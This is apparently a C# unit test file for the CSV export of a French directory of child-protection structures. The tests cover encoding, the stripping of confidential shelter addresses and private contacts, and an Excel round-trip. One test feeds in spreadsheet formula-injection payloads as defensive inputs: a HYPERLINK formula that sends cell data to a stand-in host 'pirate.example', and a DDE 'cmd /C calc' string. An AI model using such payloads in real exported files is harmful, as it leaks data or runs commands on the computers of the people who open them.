using System.Text;
using PareNetwork.Web.Domain;
using PareNetwork.Web.Imports;
using static PareNetwork.Tests.Imports.CsvSamples;

namespace PareNetwork.Tests.Imports;

public class StructureCsvWriterTests
{
    private const string Header = "id;nom;sigle;nature;actions;publics;portee;departements;commune_insee;adresse;latitude;longitude;telephones;email;site_web;reseaux_sociaux;horaires;confidentiel;description;source;statut;contact_prive_email;contact_prive_telephone;contact_prive_adresse;frequence_mise_a_jour_mois;confirme_le";

    private static readonly StructureImportRow Shelter = new()
    {
        Id = "abri-nantes",
        Name = "Abri de Nantes",
        Nature = StructureNature.Etablissement,
        Actions = [StructureAction.Hebergement, StructureAction.AccompagnementEducatif],
        Publics = [StructurePublic.MineursVictimes],
        Scope = Scope.Locale,
        Departements = ["44"],
        CommuneInsee = "44109",
        Address = "3 rue Secrète, 44000 Nantes",
        Latitude = 47.2184,
        Longitude = -1.5536,
        Phones = ["02 40 00 00 00"],
        Confidential = true,
        Description = "Mise à l'abri\nen urgence",
        Sources = ["coordination"],
        Status = StructureStatus.Publiee,
        PrivateEmail = "direction@abri.example",
        PrivatePhone = "06 12 34 56 78",
        PrivateAddress = "Boîte postale 12",
        UpdateFrequencyMonths = 3,
        ConfirmedOn = new DateOnly(2025, 3, 1),
    };

    private static readonly StructureImportRow Association = new()
    {
        Id = "ecoute-01",
        Name = "Écoute de l'Ain",
        Nature = StructureNature.Association,
        Actions = [StructureAction.EcouteOrientation],
        Publics = [StructurePublic.Jeunes, StructurePublic.Parents],
        Scope = Scope.Departementale,
        Departements = ["01", "2A"],
        CommuneInsee = "01053",
        Address = "1 place de la Mairie",
        Latitude = 46.2052,
        Longitude = 5.2255,
        PrivateEmail = "prive@ecoute.example",
    };

    [Fact]
    public async Task The_file_is_UTF_8_with_BOM_semicolons_CRLF_and_decimal_commas_for_French_Excel()
    {
        var bytes = await WriteBytesAsync([Shelter, Association]);

        Assert.Equal([0xEF, 0xBB, 0xBF], bytes[..3]);
        var text = Encoding.UTF8.GetString(bytes.AsSpan(3));
        Assert.Equal(
            Header + "\r\n"
            + "abri-nantes;Abri de Nantes;;etablissement;hebergement|accompagnement-educatif;mineurs-victimes;locale;44;44109;3 rue Secrète, 44000 Nantes;47,2184;-1,5536;02 40 00 00 00;;;;;oui;\"Mise à l'abri\nen urgence\";coordination;publiee;direction@abri.example;06 12 34 56 78;Boîte postale 12;3;2025-03-01\r\n"
            + "ecoute-01;Écoute de l'Ain;;association;ecoute-orientation;jeunes|parents;departementale;01|2A;01053;1 place de la Mairie;46,2052;5,2255;;;;;;non;;;;prive@ecoute.example;;;6;\r\n",
            text);
    }

    [Fact]
    public async Task Without_confidential_data_a_confidential_row_loses_its_address_commune_point_and_every_row_its_private_contact()
    {
        var text = await WriteAsync([Shelter, Association], includeConfidential: false);

        var lines = text.TrimStart('\uFEFF').Split("\r\n");
        Assert.Equal("abri-nantes;Abri de Nantes;;etablissement;hebergement|accompagnement-educatif;mineurs-victimes;locale;44;;;;;02 40 00 00 00;;;;;oui;\"Mise à l'abri\nen urgence\";coordination;publiee;;;;3;2025-03-01", lines[1]);
        Assert.Equal("ecoute-01;Écoute de l'Ain;;association;ecoute-orientation;jeunes|parents;departementale;01|2A;01053;1 place de la Mairie;46,2052;5,2255;;;;;;non;;;;;;;6;", lines[2]);
        foreach (var secret in new[] { "Secrète", "44109", "47,2184", "-1,5536", "direction@", "06 12", "Boîte", "prive@ecoute" })
        {
            Assert.DoesNotContain(secret, text, StringComparison.Ordinal);
        }

        var read = StructureCsvReader.Read(Encoding.UTF8.GetBytes(text));
        Assert.Equal(Shelter with { CommuneInsee = null, Address = null, Latitude = null, Longitude = null, PrivateEmail = null, PrivatePhone = null, PrivateAddress = null }, read.Rows[0].Row);
        Assert.Equal(Association with { PrivateEmail = null }, read.Rows[1].Row);
    }

    [Fact]
    public async Task A_text_a_spreadsheet_would_run_as_a_formula_is_neutralised_and_comes_back_unchanged()
    {
        var hostile = Association with
        {
            Name = "=HYPERLINK(\"https://pirate.example/?d=\"&A1;\"Cliquez\")",
            Acronym = "-1",
            Phones = ["+33 1 23 45 67 89", "01 23 45 67 89"],
            OpeningHours = "@SUM(1+1)*cmd|' /C calc'!A0",
            Description = "'=déjà une apostrophe",
            Email = "contact@ecoute.example",
            SocialAccounts = ["instagram:@ecoute"],
            PrivateAddress = "+ au fond de la cour",
        };

        var text = await WriteAsync([hostile]);

        var line = text.Split("\r\n")[1];
        Assert.Equal(
            "ecoute-01;\"'=HYPERLINK(\"\"https://pirate.example/?d=\"\"&A1;\"\"Cliquez\"\")\";'-1;association;ecoute-orientation;jeunes|parents;departementale;01|2A;01053;1 place de la Mairie;46,2052;5,2255;'+33 1 23 45 67 89|01 23 45 67 89;contact@ecoute.example;;instagram:@ecoute;'@SUM(1+1)*cmd|' /C calc'!A0;non;''=déjà une apostrophe;;;prive@ecoute.example;;'+ au fond de la cour;6;",
            line);

        var back = Single(StructureCsvReader.Read(Encoding.UTF8.GetBytes(text)));
        Assert.Equal(hostile, back);
    }

    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+33 6", "'+33 6")]
    [InlineData("-1", "'-1")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("'=x", "''=x")]
    [InlineData("'texte", "'texte")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    public void Escaping_prefixes_one_apostrophe_and_unescaping_takes_exactly_one_off(string value, string escaped)
    {
        Assert.Equal(escaped, CsvCells.Escape(value));
        Assert.Equal(value, CsvCells.Unescape(escaped));
    }

    [Fact]
    public async Task Every_row_of_the_seed_survives_export_then_import_unchanged()
    {
        var seed = StructureCsvReader.Read(await File.ReadAllBytesAsync(SeedFile));
        Assert.Null(seed.FileError);
        Assert.Empty(seed.Errors);
        Assert.Equal(34, seed.Rows.Count);
        var rows = seed.Rows.Select(r => r.Row!).ToList();
        Assert.Equal(("droit-d-enfance", "92046", StructureNature.Fondation), (rows[0].Id, rows[0].CommuneInsee, rows[0].Nature));
        Assert.Equal(4, rows.Count(r => r.Confidential));
        Assert.Contains(rows, r => r.Departements.Contains("05") && r.CommuneInsee == "05061");

        var exported = await WriteBytesAsync(rows);
        var imported = StructureCsvReader.Read(exported);

        Assert.Equal(("UTF-8 avec BOM", ';'), (imported.EncodingName, imported.Delimiter));
        Assert.Empty(imported.Errors);
        Assert.Equal(rows, imported.Rows.Select(r => r.Row!));
    }

    [Fact]
    public async Task An_export_opened_and_saved_again_by_French_Excel_imports_unchanged()
    {
        var rows = StructureCsvReader.Read(await File.ReadAllBytesAsync(SeedFile)).Rows.Select(r => r.Row!).Append(Shelter).Append(Association).ToList();
        var exported = Encoding.UTF8.GetString(await WriteBytesAsync(rows)).TrimStart('\uFEFF');

        // What « CSV (séparateur : point-virgule) » gives back: Windows-1252, no BOM, numbers without their leading
        // zeros, dates day first. Only cells Excel takes for a number change; « 01|2A » or « 05 61 » stay text.
        var resaved = string.Join("\r\n", exported.Split("\r\n").Select(line => string.Join(';', line.Split(';').Select(ExcelResave))));
        Assert.Contains(";05;05061;", exported, StringComparison.Ordinal);
        Assert.Contains(";5;5061;", resaved, StringComparison.Ordinal);
        Assert.Contains(";1053;", resaved, StringComparison.Ordinal);
        Assert.Contains(";01/03/2025", resaved, StringComparison.Ordinal);
        var imported = StructureCsvReader.Read(Windows1252.GetBytes(resaved));

        Assert.Equal("Windows-1252", imported.EncodingName);
        Assert.Empty(imported.Errors);
        Assert.Equal(rows, imported.Rows.Select(r => r.Row!));
    }

    private static string ExcelResave(string cell) =>
        cell.Length > 1 && cell[0] == '0' && cell.All(char.IsAsciiDigit) ? cell.TrimStart('0')
        : DateOnly.TryParseExact(cell, "yyyy-MM-dd", out var date) ? date.ToString("dd/MM/yyyy", System.Globalization.CultureInfo.InvariantCulture)
        : cell;
}
